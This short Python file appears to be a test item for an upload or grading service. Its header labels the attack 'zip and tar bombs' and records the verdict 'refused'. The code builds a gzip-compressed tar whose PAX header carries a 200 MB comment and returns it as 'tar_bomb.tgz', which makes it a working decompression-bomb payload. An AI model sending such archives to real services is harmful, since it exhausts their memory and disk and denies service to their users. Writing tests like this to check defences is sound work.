# tries:    a tar whose headers alone unpack to two hundred megabytes
# attack:   zip and tar bombs
# course:   judged
# vanilla:  untried
# verdict:  refused
# score:    none
# reason:
import io
import tarfile


def upload(notebook: bytes) -> dict[str, bytes]:
    entry, stream = tarfile.TarInfo("ps1.ipynb"), io.BytesIO()
    entry.pax_headers = {"comment": "0" * (200 << 20)}
    with tarfile.open(fileobj=stream, mode="w:gz", format=tarfile.PAX_FORMAT, compresslevel=1) as archive:
        archive.addfile(entry)
    return {"tar_bomb.tgz": stream.getvalue()}
